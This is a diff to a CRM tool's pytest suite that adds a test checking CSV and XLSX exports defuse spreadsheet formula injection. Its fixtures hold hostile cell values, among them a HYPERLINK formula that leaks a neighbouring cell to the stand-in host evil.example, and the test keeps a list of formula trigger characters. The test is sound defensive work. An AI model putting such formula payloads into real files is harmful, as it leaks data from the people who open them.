@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from openpyxl import Workbook
+from openpyxl import Workbook, load_workbook
 from sqlalchemy import Engine, select, text
 from sqlalchemy.orm import Session
 
@@ -304,3 +306,55 @@ def test_every_import_first_says_how_it_read_each_column(crm: Crm, engine: Engin
         "rename it to one of those (or delete it)\n",
     )
     assert rows(engine, "select count(*) from customers") == [(3,)]
+
+
+HOSTILE = {
+    "customers": (
+        "external_id,name,email,phone,company,tags,=cmd\n"
+        'C1,"=HYPERLINK(""https://evil.example/?""&C2,""Invoice"")",a@evil.example,+81 90-1111-2222,'
+        "@acme,-vip;=1+1,'t Hooft\n"
+        "@C2,'=already quoted,,,,,+1\n"
+    ),
+    "purchases": "customer,occurred_at,amount,currency,external_id\n@C2,2026-11-01,1200.5,USD,=O1\n",
+    "interactions": "customer,occurred_at,kind,summary,author\nC1,2026-11-02,call,-1+2 discussed,@U0SALES1\n",
+}
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def exported_cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_exported_cells_never_run_as_formulas_and_import_back_the_same(
+    crm: Crm, engine: Engine, tmp_path: Path
+) -> None:
+    for entity, content in HOSTILE.items():
+        assert crm("import", entity, str(write(tmp_path / f"{entity}.csv", content))).exit_code == 0
+    with Session(engine) as session:
+        hostile = session.scalars(select(Customer).where(Customer.external_id == "C1")).one()
+        assert hostile.name == '=HYPERLINK("https://evil.example/?"&C2,"Invoice")'
+        assert hostile.custom_fields == {"=cmd": "'t Hooft"}
+    first = {entity: crm("export", entity, "-").stdout for entity in HOSTILE}
+    cells = [cell for text in first.values() for cell in exported_cells(text)]
+    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
+    assert {'\'=HYPERLINK("https://evil.example/?"&C2,"Invoice")', "'+81 90-1111-2222", "'@acme"} <= set(
+        cells
+    )
+    assert {"'-vip;=1+1", "'=cmd", "''t Hooft", "'@C2", "'=already quoted", "'=O1", "'@U0SALES1"} <= set(
+        cells
+    )
+    assert "1200.5" in cells  # amounts are numbers the exporter wrote, never quoted
+    xlsx = {entity: tmp_path / f"{entity}.xlsx" for entity in HOSTILE}
+    for entity, path in xlsx.items():
+        assert crm("export", entity, str(path)).exit_code == 0
+        sheet = load_workbook(path).worksheets[0]
+        values = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert not [
+            cell.value for cell in values if cell.data_type == "f" or str(cell.value).startswith(TRIGGERS)
+        ]
+    for source in (first, xlsx):
+        empty_all_tables(engine)
+        for entity in HOSTILE:
+            path = xlsx[entity] if source is xlsx else write(tmp_path / f"again-{entity}.csv", first[entity])
+            assert crm("import", entity, str(path)).exit_code == 0
+        assert {entity: crm("export", entity, "-").stdout for entity in HOSTILE} == first
